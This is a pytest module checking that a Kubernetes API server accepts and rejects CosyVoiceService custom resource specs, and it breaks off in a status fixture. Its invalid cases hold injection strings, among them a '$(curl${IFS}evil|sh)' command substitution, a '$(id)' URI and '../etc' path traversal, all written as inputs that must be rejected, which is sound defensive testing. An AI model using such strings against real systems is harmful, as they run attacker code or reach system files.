"""The CosyVoiceService CRD as a real kube-apiserver enforces it.

Everything here is answered by the API server itself (schema, defaults, enums, ranges, CEL
`x-kubernetes-validations`, strict field validation, printer columns, subresources): no mocks.
The session fixture `cluster` (tests/conftest.py) starts the control plane and installs
crds/ before the tests run. A few static checks of the CRD file come first; they need no
cluster.
"""

from __future__ import annotations

import copy
import json
import re
import subprocess
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, Protocol

import pytest
import yaml

from tests.api_defaults import stored_minimal_spec

REPO = Path(__file__).resolve().parents[2]
CRD_FILE = REPO / "crds" / "cosyvoiceservices.tts.cosyvoice.dev.yaml"
EXAMPLES = sorted((REPO / "examples").glob("*.yaml"))

CRD_NAME = "cosyvoiceservices.tts.cosyvoice.dev"
API_VERSION = "tts.cosyvoice.dev/v1alpha1"
KIND = "CosyVoiceService"

Json = dict[str, Any]


class Cluster(Protocol):
    """What this module uses of the `cluster` fixture."""

    kubeconfig: str

    def kubectl(
        self, *args: str, input: str | None = None, check: bool = True
    ) -> subprocess.CompletedProcess[str]: ...

    def namespace(self, prefix: str) -> str: ...


# A valid spec every invalid case starts from: CosyVoice3, autoscaling on, one schedule.
BASE_SPEC: Json = {
    "model": {"variant": "cosyvoice3", "uri": "hf://FunAudioLLM/Fun-CosyVoice3-0.5B-2512"},
    "engine": {"precision": "bfloat16", "tensorParallelSize": 1, "maxBatchSize": 16},
    "serving": {
        "gpusPerReplica": 1,
        "dynamicBatching": {"preferredBatchSizes": [4, 8, 16]},
    },
    "replicas": 1,
    "autoscaling": {
        "enabled": True,
        "minReplicas": 1,
        "maxReplicas": 4,
        "schedules": [
            {"name": "business-hours", "start": "08:00", "end": "18:00", "minReplicas": 2}
        ],
    },
}


def merge_patch(target: Any, patch: Any) -> Any:
    """RFC 7386 JSON merge patch: dicts merge recursively, None deletes, the rest replaces."""
    if not isinstance(patch, dict):
        return copy.deepcopy(patch)
    result: Json = copy.deepcopy(target) if isinstance(target, dict) else {}
    for key, value in patch.items():
        if value is None:
            result.pop(key, None)
        else:
            result[key] = merge_patch(result.get(key), value)
    return result


def schedule(**fields: Any) -> list[Json]:
    """The base schedule list with the first entry changed (None deletes a field)."""
    return [merge_patch(BASE_SPEC["autoscaling"]["schedules"][0], fields)]


# (id, merge patch applied to BASE_SPEC, substrings the API server's error must contain).
# The first substring is always the full path of the offending field; for CEL rules the
# second is (part of) the rule's message.
INVALID_SPECS: list[tuple[str, Json, list[str]]] = [
    # --- replica bounds
    (
        "min-replicas-above-max",
        {"autoscaling": {"minReplicas": 5, "maxReplicas": 4, "schedules": None}},
        ["spec.autoscaling.minReplicas", "must be <= spec.autoscaling.maxReplicas"],
    ),
    (
        "max-replicas-zero",
        {"autoscaling": {"minReplicas": 0, "maxReplicas": 0, "schedules": None}},
        ["spec.autoscaling.maxReplicas", "greater than or equal to 1"],
    ),
    ("replicas-negative", {"replicas": -1}, ["spec.replicas", "greater than or equal to 0"]),
    ("replicas-not-integer", {"replicas": "two"}, ["spec.replicas", "integer"]),
    (
        "min-replicas-negative",
        {"autoscaling": {"minReplicas": -1}},
        ["spec.autoscaling.minReplicas", "greater than or equal to 0"],
    ),
    (
        "scale-down-step-zero",
        {"autoscaling": {"scaleDown": {"maxStepReplicas": 0}}},
        ["spec.autoscaling.scaleDown.maxStepReplicas"],
    ),
    (
        "scale-up-window-too-long",
        {"autoscaling": {"scaleUp": {"stabilizationWindowSeconds": 3601}}},
        ["spec.autoscaling.scaleUp.stabilizationWindowSeconds"],
    ),
    (
        "evaluation-interval-too-short",
        {"autoscaling": {"evaluationIntervalSeconds": 4}},
        ["spec.autoscaling.evaluationIntervalSeconds"],
    ),
    (
        "target-queue-latency-zero",
        {"autoscaling": {"targetQueueLatencyMilliseconds": 0}},
        ["spec.autoscaling.targetQueueLatencyMilliseconds"],
    ),
    (
        "mode-not-in-enum",
        {"autoscaling": {"mode": "Auto"}},
        ["spec.autoscaling.mode", "Unsupported value"],
    ),
    # --- GPUs and engine
    (
        "gpus-not-multiple-of-tensor-parallel",
        {"engine": {"tensorParallelSize": 2}, "serving": {"gpusPerReplica": 3}},
        [
            "spec.serving.gpusPerReplica",
            "must be a positive multiple of spec.engine.tensorParallelSize",
        ],
    ),
    (
        "gpus-fewer-than-tensor-parallel",
        {"engine": {"tensorParallelSize": 4}, "serving": {"gpusPerReplica": 2}},
        ["spec.serving.gpusPerReplica", "multiple of spec.engine.tensorParallelSize"],
    ),
    (
        "gpus-per-replica-zero",
        {"serving": {"gpusPerReplica": 0}},
        ["spec.serving.gpusPerReplica", "greater than or equal to 1"],
    ),
    (
        "tensor-parallel-three",
        {"engine": {"tensorParallelSize": 3}, "serving": {"gpusPerReplica": 3}},
        ["spec.engine.tensorParallelSize", "Unsupported value"],
    ),
    (
        "precision-not-in-enum",
        {"engine": {"precision": "int3"}},
        ["spec.engine.precision", "Unsupported value"],
    ),
    (
        "max-batch-size-zero",
        {"engine": {"maxBatchSize": 0}},
        ["spec.engine.maxBatchSize", "greater than or equal to 1"],
    ),
    (
        "max-batch-size-257",
        {"engine": {"maxBatchSize": 257}},
        ["spec.engine.maxBatchSize", "less than or equal to 256"],
    ),
    (
        "max-num-tokens-too-small",
        {"engine": {"maxNumTokens": 100}},
        ["spec.engine.maxNumTokens"],
    ),
    (
        "gpu-products-duplicate",
        {"engine": {"gpuProducts": ["NVIDIA-L20", "NVIDIA-L20"]}},
        ["spec.engine.gpuProducts[1]", "Duplicate value"],
    ),
    (
        "cache-claim-not-a-name",
        {"engine": {"cacheClaimName": "Engines_Cache"}},
        ["spec.engine.cacheClaimName"],
    ),
    (
        "instances-per-gpu-nine",
        {"serving": {"instancesPerGpu": 9}},
        ["spec.serving.instancesPerGpu", "less than or equal to 8"],
    ),
    # --- dynamic batching
    (
        "preferred-batch-size-above-max-batch-size",
        {"engine": {"maxBatchSize": 8}},
        [
            "spec.serving.dynamicBatching.preferredBatchSizes",
            "must be <= spec.engine.maxBatchSize",
        ],
    ),
    (
        "preferred-batch-sizes-not-increasing",
        {"serving": {"dynamicBatching": {"preferredBatchSizes": [8, 4, 16]}}},
        ["spec.serving.dynamicBatching.preferredBatchSizes", "strictly increasing"],
    ),
    (
        "preferred-batch-sizes-duplicate",
        {"serving": {"dynamicBatching": {"preferredBatchSizes": [4, 8, 8]}}},
        ["spec.serving.dynamicBatching.preferredBatchSizes", "must not repeat a size"],
    ),
    (
        "preferred-batch-size-zero",
        {"serving": {"dynamicBatching": {"preferredBatchSizes": [0, 4]}}},
        ["spec.serving.dynamicBatching.preferredBatchSizes[0]"],
    ),
    (
        "priority-levels-above-100",
        {"serving": {"dynamicBatching": {"priorityLevels": 101}}},
        ["spec.serving.dynamicBatching.priorityLevels"],
    ),
    (
        "queue-delay-negative",
        {"serving": {"dynamicBatching": {"maxQueueDelayMicroseconds": -1}}},
        ["spec.serving.dynamicBatching.maxQueueDelayMicroseconds"],
    ),
    # --- serving resources
    (
        "resources-set-gpu",
        {"serving": {"resources": {"limits": {"nvidia.com/gpu": 1}}}},
        ["spec.serving.resources.limits", "spec.serving.gpusPerReplica"],
    ),
    (
        "resources-bad-quantity",
        {"serving": {"resources": {"requests": {"memory": "lots"}}}},
        ["spec.serving.resources.requests"],
    ),
    # --- model
    (
        "uri-http-scheme",
        {"model": {"uri": "http://example.com/cosyvoice3"}},
        ["spec.model.uri", "must start with hf://, s3:// or pvc://"],
    ),
    (
        "uri-hf-without-name",
        {"model": {"uri": "hf://FunAudioLLM"}},
        ["spec.model.uri", "must be hf://ORG/NAME"],
    ),
    (
        "uri-hf-empty-name",
        {"model": {"uri": "hf://FunAudioLLM/"}},
        ["spec.model.uri", "must be hf://ORG/NAME"],
    ),
    (
        "uri-s3-without-path",
        {"model": {"uri": "s3://models"}},
        ["spec.model.uri", "must be s3://BUCKET/PATH"],
    ),
    (
        "uri-pvc-empty-path",
        {"model": {"uri": "pvc://model-store/"}},
        ["spec.model.uri", "must be pvc://CLAIM/PATH"],
    ),
    ("uri-missing", {"model": {"uri": None}}, ["spec.model.uri", "Required value"]),
    ("variant-missing", {"model": {"variant": None}}, ["spec.model.variant", "Required value"]),
    (
        "variant-not-in-enum",
        {"model": {"variant": "cosyvoice1"}},
        ["spec.model.variant", "Unsupported value"],
    ),
    (
        "credentials-secret-not-a-name",
        {"model": {"credentialsSecret": "HF Token"}},
        ["spec.model.credentialsSecret"],
    ),
    # --- unknown fields (strict server-side field validation)
    ("unknown-field-in-spec", {"foo": 1}, ['unknown field "spec.foo"']),
    ("unknown-field-in-engine", {"engine": {"foo": 1}}, ['unknown field "spec.engine.foo"']),
    (
        "unknown-field-in-schedule",
        {"autoscaling": {"schedules": schedule(floor=3)}},
        ['unknown field "spec.autoscaling.schedules[0].floor"'],
    ),
    # --- schedules
    (
        "schedule-min-replicas-above-max",
        {"autoscaling": {"maxReplicas": 4, "schedules": schedule(minReplicas=5)}},
        ["spec.autoscaling.schedules", "must be <= spec.autoscaling.maxReplicas"],
    ),
    (
        "schedule-start-not-hh-mm",
        {"autoscaling": {"schedules": schedule(start="8:00")}},
        ["spec.autoscaling.schedules[0].start"],
    ),
    (
        "schedule-end-hour-24",
        {"autoscaling": {"schedules": schedule(end="24:00")}},
        ["spec.autoscaling.schedules[0].end"],
    ),
    (
        "schedule-start-equals-end",
        {"autoscaling": {"schedules": schedule(start="09:00", end="09:00")}},
        ["spec.autoscaling.schedules[0]", "must differ from"],
    ),
    (
        "schedule-day-not-in-enum",
        {"autoscaling": {"schedules": schedule(daysOfWeek=["Monday"])}},
        ["spec.autoscaling.schedules[0].daysOfWeek[0]", "Unsupported value"],
    ),
    (
        "schedule-without-name",
        {"autoscaling": {"schedules": schedule(name=None)}},
        ["spec.autoscaling.schedules[0].name", "Required value"],
    ),
    (
        "schedule-names-duplicate",
        {"autoscaling": {"schedules": schedule() + schedule(start="20:00", end="22:00")}},
        ["spec.autoscaling.schedules[1]", "Duplicate value"],
    ),
    (
        "schedule-timezone-not-a-name",
        {"autoscaling": {"schedules": schedule(timezone="UTC+8 hours")}},
        ["spec.autoscaling.schedules[0].timezone"],
    ),
    # --- the levers: LLM runtime, quantization, queue policy, stream chunking
    (
        "llm-runtime-not-in-enum",
        {"model": {"llmRuntime": "sglang"}},
        ["spec.model.llmRuntime", "Unsupported value"],
    ),
    (
        "vllm-with-an-engine-only-precision",
        {"model": {"llmRuntime": "vllm"}, "engine": {"precision": "int8-weight-only"}},
        ["spec.engine.precision", "must be bfloat16 or float16 with spec.model.llmRuntime vllm"],
    ),
    (
        "vllm-with-int8-kv-cache",
        {"model": {"llmRuntime": "vllm"}, "engine": {"kvCacheType": "int8"}},
        ["spec.engine.kvCacheType", "int8 is a TensorRT-LLM engine option"],
    ),
    (
        "vllm-with-smoothquant-options",
        {"model": {"llmRuntime": "vllm"}, "engine": {"smoothQuant": {"alpha": 0.5}}},
        ["spec.engine.smoothQuant", "cannot be set with"],
    ),
    (
        "smoothquant-options-without-smoothquant",
        {"engine": {"precision": "int8-weight-only", "smoothQuant": {"alpha": 0.5}}},
        ["spec.engine.smoothQuant", "only allowed with spec.engine.precision int8-smoothquant"],
    ),
    (
        "smoothquant-alpha-above-one",
        {"engine": {"precision": "int8-smoothquant", "smoothQuant": {"alpha": 1.5}}},
        ["spec.engine.smoothQuant.alpha", "less than or equal to 1"],
    ),
    (
        "fp8-engine-with-int8-kv-cache",
        {"engine": {"precision": "fp8", "kvCacheType": "int8"}},
        ["spec.engine.kvCacheType", "cannot go with spec.engine.precision fp8"],
    ),
    (
        "smoothquant-with-fp8-kv-cache",
        {"engine": {"precision": "int8-smoothquant", "kvCacheType": "fp8"}},
        ["spec.engine.kvCacheType", "cannot go with spec.engine.precision int8-smoothquant"],
    ),
    (
        "kv-cache-type-not-in-enum",
        {"engine": {"kvCacheType": "fp16"}},
        ["spec.engine.kvCacheType", "Unsupported value"],
    ),
    (
        "queue-timeout-action-not-in-enum",
        {"serving": {"queuePolicy": {"timeoutAction": "REJECT"}}},
        ["spec.serving.queuePolicy.timeoutAction", "Unsupported value"],
    ),
    (
        "queue-size-negative",
        {"serving": {"queuePolicy": {"maxQueueSize": -1}}},
        ["spec.serving.queuePolicy.maxQueueSize", "greater than or equal to 0"],
    ),
    (
        "priority-policy-above-the-levels",
        {
            "serving": {
                "dynamicBatching": {"priorityLevels": 2},
                "queuePolicy": {"priorityPolicies": [{"priorityLevel": 3, "maxQueueSize": 4}]},
            }
        },
        [
            "spec.serving.queuePolicy.priorityPolicies",
            "must be <= spec.serving.dynamicBatching.priorityLevels",
        ],
    ),
    (
        "priority-policy-level-twice",
        {
            "serving": {
                "queuePolicy": {
                    "priorityPolicies": [
                        {"priorityLevel": 1, "maxQueueSize": 4},
                        {"priorityLevel": 1, "maxQueueSize": 8},
                    ]
                }
            }
        },
        ["spec.serving.queuePolicy.priorityPolicies[1]", "Duplicate value"],
    ),
    (
        "first-chunk-zero-tokens",
        {"serving": {"streamChunking": {"firstChunkTokens": 0}}},
        ["spec.serving.streamChunking.firstChunkTokens", "greater than or equal to 1"],
    ),
    (
        "hop-growth-not-in-enum",
        {"serving": {"streamChunking": {"hopGrowth": "time_based"}}},
        ["spec.serving.streamChunking.hopGrowth", "Unsupported value"],
    ),
    # --- issue 21: shapes and sizes the operator used to crash on or carry (M2, M3, L1)
    (
        "affinity-required-a-string",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {"requiredDuringSchedulingIgnoredDuringExecution": "x"}
                }
            }
        },
        ["spec.serving.affinity.nodeAffinity.requiredDuringSchedulingIgnoredDuringExecution"],
    ),
    (
        "affinity-term-a-string",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {
                        "requiredDuringSchedulingIgnoredDuringExecution": {
                            "nodeSelectorTerms": ["x"]
                        }
                    }
                }
            }
        },
        ["nodeSelectorTerms[0]", "object"],
    ),
    (
        "affinity-values-not-a-list",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {
                        "requiredDuringSchedulingIgnoredDuringExecution": {
                            "nodeSelectorTerms": [
                                {"matchExpressions": [{"key": "k", "operator": "In", "values": 5}]}
                            ]
                        }
                    }
                }
            }
        },
        ["matchExpressions[0].values", "array"],
    ),
    (
        "affinity-too-many-values",
        {
            "serving": {
                "affinity": {
                    "nodeAffinity": {
                        "requiredDuringSchedulingIgnoredDuringExecution": {
                            "nodeSelectorTerms": [
                                {
                                    "matchExpressions": [
                                        {
                                            "key": "k",
                                            "operator": "In",
                                            "values": [f"v{i}" for i in range(65)],
                                        }
                                    ]
                                }
                            ]
                        }
                    }
                }
            }
        },
        ["matchExpressions[0].values", "must have at most 64 items"],
    ),
    (
        "toleration-unknown-operator",
        {"serving": {"tolerations": [{"key": "k", "operator": "Matches"}]}},
        ["spec.serving.tolerations[0].operator", "Unsupported value"],
    ),
    (
        "node-selector-value-too-long",
        {"serving": {"nodeSelector": {"pool": "x" * 64}}},
        ["spec.serving.nodeSelector.pool", "Too long"],
    ),
    (
        "revision-command-substitution",
        {"model": {"revision": "$(curl${IFS}evil|sh)"}},
        ["spec.model.revision", "should match"],
    ),
    (
        "revision-option-like",
        {"model": {"revision": "--pvc-root=/etc"}},
        ["spec.model.revision", "should match"],
    ),
    ("revision-dot-dot", {"model": {"revision": "a/../../x"}}, ["must not contain '..'"]),
    (
        "uri-dot-dot-segment",
        {"model": {"uri": "pvc://model-store/../etc"}},
        ["spec.model.uri", "'.' or '..' path segments"],
    ),
    (
        "uri-command-substitution",
        {"model": {"uri": "s3://tts-models/$(id)/x"}},
        ["spec.model.uri", "'$('"],
    ),
    ("uri-escape", {"model": {"uri": "s3://tts-models/a\x1bb"}}, ["spec.model.uri", "control"]),
]


# ---------------------------------------------------------------------------------------
# Static checks of crds/ (no cluster needed)


def _crd() -> Json:
    doc = yaml.safe_load(CRD_FILE.read_text())
    assert isinstance(doc, dict)
    return doc


def _schema_nodes(node: Json, path: str) -> list[tuple[str, Json]]:
    nodes = [(path, node)]
    for name, child in node.get("properties", {}).items():
        nodes += _schema_nodes(child, f"{path}.{name}")
    if isinstance(node.get("items"), dict):
        nodes += _schema_nodes(node["items"], f"{path}[]")
    if isinstance(node.get("additionalProperties"), dict):
        nodes += _schema_nodes(node["additionalProperties"], f"{path}{{}}")
    return nodes


def test_every_schema_field_is_described() -> None:
    schema = _crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    undocumented = [
        path
        for path, node in _schema_nodes(schema, "")
        if path != ".metadata" and not str(node.get("description", "")).strip()
    ]
    assert undocumented == [], f"schema nodes without a description: {undocumented}"


def test_unknown_fields_are_preserved_only_for_the_decisions_inputs() -> None:
    """Tolerations and affinity are typed (the core types' fields) since issue 21: an
    untyped subtree could hold anything, of any size, and crash the operator's planning."""
    schema = _crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    preserving = {
        path
        for path, node in _schema_nodes(schema, "")
        if node.get("x-kubernetes-preserve-unknown-fields")
    }
    assert preserving == {".status.autoscaling.lastDecision.inputs"}


def test_every_spec_list_map_and_string_is_bounded() -> None:
    """Issue 21 M3: every array has maxItems, every map maxProperties, every free string
    maxLength (enums and patterns of bounded repetition aside), so that no spec can grow to
    the object size limit through one field."""
    schema = _crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    unbounded = []
    for path, node in _schema_nodes(schema["properties"]["spec"], ".spec"):
        kind = node.get("type")
        if kind == "array" and "maxItems" not in node:
            unbounded.append(path)
        if kind == "object" and "additionalProperties" in node and "maxProperties" not in node:
            unbounded.append(path)
        if kind == "string" and "enum" not in node and "maxLength" not in node:
            unbounded.append(path)
    assert unbounded == []


def test_cel_messages_name_the_field() -> None:
    schema = _crd()["spec"]["versions"][0]["schema"]["openAPIV3Schema"]
    rules = [
        rule
        for _, node in _schema_nodes(schema, "")
        for rule in node.get("x-kubernetes-validations", [])
    ]
    assert len(rules) >= 10
    for rule in rules:
        assert re.match(r"^(every )?(spec|metadata)\.", rule["message"]), rule


def test_examples_are_cosyvoice_services() -> None:
    names = {path.name for path in EXAMPLES}
    assert {"cosyvoice2.yaml", "cosyvoice3.yaml"} <= names
    for path in EXAMPLES:
        docs = [doc for doc in yaml.safe_load_all(path.read_text()) if doc]
        assert docs, path
        for doc in docs:
            assert doc["apiVersion"] == API_VERSION, path
            assert doc["kind"] == KIND, path


# ---------------------------------------------------------------------------------------
# Against the API server


@pytest.fixture(scope="module")
def namespace(cluster: Cluster) -> str:
    return cluster.namespace("crd-validation")


def _manifest(name: str, spec: Json) -> str:
    return json.dumps(
        {"apiVersion": API_VERSION, "kind": KIND, "metadata": {"name": name}, "spec": spec}
    )


def _create(
    cluster: Cluster, namespace: str, name: str, spec: Json
) -> subprocess.CompletedProcess[str]:
    return cluster.kubectl(
        "create",
        "--validate=strict",
        "-n",
        namespace,
        "-o",
        "json",
        "-f",
        "-",
        input=_manifest(name, spec),
        check=False,
    )


def _get(cluster: Cluster, namespace: str, name: str) -> Json:
    result = cluster.kubectl("get", "cosyvoiceservices", name, "-n", namespace, "-o", "json")
    obj = json.loads(result.stdout)
    assert isinstance(obj, dict)
    return obj


def _contains(actual: Any, expected: Any) -> bool:
    """Whether `expected` is `actual` minus defaults: dicts may gain keys, lists keep length."""
    if isinstance(expected, dict):
        return isinstance(actual, dict) and all(
            key in actual and _contains(actual[key], value) for key, value in expected.items()
        )
    if isinstance(expected, list):
        return (
            isinstance(actual, list)
            and len(actual) == len(expected)
            and all(_contains(a, e) for a, e in zip(actual, expected, strict=True))
        )
    return bool(actual == expected)


def _eventually(
    check: Callable[[], subprocess.CompletedProcess[str]],
    *,
    timeout: float = 60.0,
    interval: float = 1.0,
) -> subprocess.CompletedProcess[str]:
    """Retry a kubectl call until it succeeds (the API server publishes OpenAPI lazily)."""
    deadline = time.monotonic() + timeout
    while True:
        result = check()
        if result.returncode == 0 or time.monotonic() > deadline:
            return result
        time.sleep(interval)


@pytest.mark.cluster
def test_crd_is_established_and_structural(cluster: Cluster) -> None:
    cluster.kubectl("wait", "--for=condition=Established", f"crd/{CRD_NAME}", "--timeout=60s")
    crd = json.loads(cluster.kubectl("get", "crd", CRD_NAME, "-o", "json").stdout)
    conditions = {c["type"]: c["status"] for c in crd["status"]["conditions"]}
    assert conditions.get("Established") == "True"
    assert conditions.get("NamesAccepted") == "True"
    assert "NonStructuralSchema" not in conditions
    assert crd["status"]["acceptedNames"]["shortNames"] == ["cvs"]
    assert crd["status"]["acceptedNames"]["categories"] == ["cosyvoice"]


@pytest.mark.parametrize(
    ("field", "expected"),
    [
        ("cosyvoiceservices.spec.engine.precision", ["Weight and compute precision", "fp8"]),
        ("cvs.spec.serving.gpusPerReplica", ["multiple of", "tensorParallelSize"]),
        ("cvs.spec.model.uri", ["hf://ORG/NAME", "pvc://CLAIM/PATH"]),
        ("cvs.spec.autoscaling.schedules.start", ["HH:MM"]),
        ("cvs.status.engines.gpuArch", ["sm_90"]),
    ],
)
@pytest.mark.cluster
def test_kubectl_explain_prints_the_description(
    cluster: Cluster, field: str, expected: list[str]
) -> None:
    result = _eventually(lambda: cluster.kubectl("explain", field, check=False))
    assert result.returncode == 0, result.stderr
    text = " ".join(result.stdout.split())  # explain wraps long lines
    for substring in expected:
        assert substring in text, f"{substring!r} not in `kubectl explain {field}`:\n{text}"


@pytest.mark.parametrize("example", EXAMPLES, ids=[path.stem for path in EXAMPLES])
@pytest.mark.cluster
def test_example_is_accepted_as_written(cluster: Cluster, namespace: str, example: Path) -> None:
    result = cluster.kubectl(
        "create",
        "--validate=strict",
        "-n",
        namespace,
        "-o",
        "json",
        "-f",
        str(example),
        check=False,
    )
    assert result.returncode == 0, result.stderr
    written = yaml.safe_load(example.read_text())
    stored = _get(cluster, namespace, written["metadata"]["name"])
    # Nothing pruned or rewritten: the stored spec contains the example's spec verbatim.
    assert _contains(stored["spec"], written["spec"]), json.dumps(stored["spec"], indent=2)


@pytest.mark.cluster
def test_base_spec_of_the_invalid_cases_is_valid(cluster: Cluster, namespace: str) -> None:
    result = _create(cluster, namespace, "valid-base", BASE_SPEC)
    assert result.returncode == 0, result.stderr


@pytest.mark.cluster
def test_minimal_spec_gets_every_default(cluster: Cluster, namespace: str) -> None:
    model = {"variant": "cosyvoice2", "uri": "hf://yuekai/cosyvoice2_llm"}
    result = _create(cluster, namespace, "minimal", {"model": model})
    assert result.returncode == 0, result.stderr
    assert _get(cluster, namespace, "minimal")["spec"] == stored_minimal_spec(model)


@pytest.mark.cluster
def test_schedule_defaults(cluster: Cluster, namespace: str) -> None:
    result = _create(cluster, namespace, "schedule-defaults", BASE_SPEC)
    assert result.returncode == 0, result.stderr
    stored = _get(cluster, namespace, "schedule-defaults")["spec"]["autoscaling"]["schedules"]
    assert stored == [
        {
            "name": "business-hours",
            "daysOfWeek": ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"],
            "start": "08:00",
            "end": "18:00",
            "timezone": "UTC",
            "minReplicas": 2,
        }
    ]


# (id, merge patch applied to BASE_SPEC): values at the edge of what the schema allows.
VALID_SPECS: list[tuple[str, Json]] = [
    ("uri-s3", {"model": {"uri": "s3://tts-models/cosyvoice3/2512/"}}),
    ("uri-pvc", {"model": {"uri": "pvc://model-store/cosyvoice3"}}),
    ("uri-hf-dots", {"model": {"uri": "hf://yuekai/Fun-CosyVoice3-0.5B-2512-LLM-HF"}}),
    (
        "tensor-parallel-2-on-4-gpus",
        {"engine": {"tensorParallelSize": 2}, "serving": {"gpusPerReplica": 4}},
    ),
    (
        "small-engine-small-batches",
        {
            "engine": {"maxBatchSize": 4},
            "serving": {"dynamicBatching": {"preferredBatchSizes": [1, 2, 4]}},
        },
    ),
    ("no-preferred-batch-sizes", {"serving": {"dynamicBatching": {"preferredBatchSizes": []}}}),
    (
        "scale-to-zero-floor",
        {"autoscaling": {"minReplicas": 0, "maxReplicas": 1, "schedules": None}},
    ),
    (
        "schedule-past-midnight-at-max",
        {"autoscaling": {"schedules": schedule(start="22:00", end="06:00", minReplicas=4)}},
    ),
    ("fractional-target", {"autoscaling": {"targetQueueLatencyMilliseconds": 0.5}}),
    ("zero-replicas", {"replicas": 0}),
    (
        "vllm-with-fp8-kv-cache-on-four-gpus",
        {
            "model": {"llmRuntime": "vllm"},
            "engine": {"precision": "float16", "kvCacheType": "fp8", "tensorParallelSize": 2},
            "serving": {"gpusPerReplica": 4},
        },
    ),
    (
        "smoothquant-per-tensor-with-int8-kv-cache",
        {
            "engine": {
                "precision": "int8-smoothquant",
                "kvCacheType": "int8",
                "smoothQuant": {"alpha": 0.8, "perToken": False, "perChannel": False},
            }
        },
    ),
    ("fp8-engine-with-fp8-kv-cache", {"engine": {"precision": "fp8", "kvCacheType": "fp8"}}),
    (
        "queue-policy-with-priorities",
        {
            "serving": {
                "dynamicBatching": {"priorityLevels": 2},
                "queuePolicy": {
                    "maxQueueSize": 32,
                    "defaultTimeoutMicroseconds": 2000000,
                    "timeoutAction": "Reject",
                    "priorityPolicies": [
                        {"priorityLevel": 1, "defaultTimeoutMicroseconds": 0},
                        {"priorityLevel": 2, "maxQueueSize": 4, "timeoutAction": "Delay"},
                    ],
                },
            }
        },
    ),
    (
        "small-first-chunk-equal-hops",
        {"serving": {"streamChunking": {"firstChunkTokens": 5, "hopGrowth": "equal"}}},
    ),
    (
        "resources-and-scheduling",
        {
            "serving": {
                "resources": {
                    "requests": {"cpu": 8, "memory": "32Gi"},
                    "limits": {"memory": "48Gi"},
                },
                "nodeSelector": {"topology.kubernetes.io/zone": "zone-a"},
                "tolerations": [
                    {"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}
                ],
                "affinity": {
                    "nodeAffinity": {
                        "requiredDuringSchedulingIgnoredDuringExecution": {
                            "nodeSelectorTerms": [
                                {
                                    "matchExpressions": [
                                        {"key": "pool", "operator": "In", "values": ["tts"]}
                                    ]
                                }
                            ]
                        }
                    }
                },
            }
        },
    ),
]


@pytest.mark.parametrize(
    ("case_id", "patch"), VALID_SPECS, ids=[case_id for case_id, _ in VALID_SPECS]
)
@pytest.mark.cluster
def test_edge_values_are_accepted(
    cluster: Cluster, namespace: str, case_id: str, patch: Json
) -> None:
    spec = merge_patch(BASE_SPEC, patch)
    result = _create(cluster, namespace, f"ok-{case_id}", spec)
    assert result.returncode == 0, result.stderr
    assert _contains(_get(cluster, namespace, f"ok-{case_id}")["spec"], spec)


def _assert_rejected(result: subprocess.CompletedProcess[str], expected: list[str]) -> None:
    assert result.returncode != 0, f"accepted, should have been rejected:\n{result.stdout}"
    # Both forms are the API server's answer (422 Invalid / 400 BadRequest), not a
    # client-side check of kubectl (those start with "error:").
    assert "is invalid" in result.stderr or "Error from server" in result.stderr, result.stderr
    for substring in expected:
        assert substring in result.stderr, f"{substring!r} not in:\n{result.stderr}"


@pytest.mark.parametrize(
    ("case_id", "patch", "expected"),
    INVALID_SPECS,
    ids=[case_id for case_id, _, _ in INVALID_SPECS],
)
@pytest.mark.cluster
def test_invalid_spec_is_rejected_by_the_api_server(
    cluster: Cluster, namespace: str, case_id: str, patch: Json, expected: list[str]
) -> None:
    name = f"bad-{case_id}"[:63]
    _assert_rejected(_create(cluster, namespace, name, merge_patch(BASE_SPEC, patch)), expected)


def test_invalid_cases_are_distinct_and_numerous() -> None:
    ids = [case_id for case_id, _, _ in INVALID_SPECS]
    assert len(ids) == len(set(ids))
    assert len(ids) >= 15
    patches = [json.dumps(patch, sort_keys=True) for _, patch, _ in INVALID_SPECS]
    assert len(patches) == len(set(patches))


@pytest.mark.cluster
def test_name_must_be_a_dns_label(cluster: Cluster, namespace: str) -> None:
    # A valid Kubernetes object name (DNS subdomain) that cannot name a Service.
    _assert_rejected(
        _create(cluster, namespace, "zh.tts", BASE_SPEC), ["metadata.name must be a DNS-1035 label"]
    )


@pytest.mark.cluster
def test_missing_spec_is_rejected(cluster: Cluster, namespace: str) -> None:
    result = cluster.kubectl(
        "create",
        "--validate=strict",
        "-n",
        namespace,
        "-f",
        "-",
        input=json.dumps(
            {"apiVersion": API_VERSION, "kind": KIND, "metadata": {"name": "no-spec"}}
        ),
        check=False,
    )
    _assert_rejected(result, ["spec", "Required value"])


def _patch_status(
    cluster: Cluster, namespace: str, name: str, status: Json
) -> subprocess.CompletedProcess[str]:
    return cluster.kubectl(
        "patch",
        "cosyvoiceservices",
        name,
        "-n",
        namespace,
        "--subresource=status",
        "--type=merge",
        "-p",
        json.dumps({"status": status}),
        check=False,
    )


STATUS: Json = {
    "observedGeneration": 1,
    "phase": "Ready",
    "replicas": 2,
    "readyReplicas": 2,
    "selector": "app.kubernetes.io/name=cosyvoice,app.kubernetes.io/instance=columns",
    "readySummary": "2/2",
    "engineSummary": "Ready",
    "conditions": [
        {
            "type": "Available",
            "status": "True",
            "reason": "ReplicasReady",
            "message": "2 of 2 replicas ready",
            "lastTransitionTime": "2026-01-01T00:00:00Z",
            "observedGeneration": 1,
        }
    ],
    "engines": [
        {
            "gpuProduct": "NVIDIA-H100-80GB-HBM3",
            "gpuArch": "sm_90",
            "key": "0123456789abcdef",
            "state": "Ready",
            "job": "columns-engine-0123456789",
            "message": "",
            "attempts": 1,
        }
    ],
    "autoscaling": {
        "desiredReplicas": 2,
        "lastQueueLatencyMilliseconds": 12.5,
        "lastEvaluationTime": "2026-01-01T00:00:00Z",
        "lastEvaluation": {"time": "2026-01-01T00:00:00Z", "replicas": 2, "reason": "holding"},
        "specReplicas": 1,
        "lastDecision": {
            "time": "2026-01-01T00:00:00Z",
            "from": 1,
            "to": 2,
            "reason": "queue latency above target",
            "inputs": {"queueLatencyMilliseconds": 80.0, "pendingRequests": 6},
        },
    },
    "endpoints": {
        "grpc": "columns.ns.svc:8001",
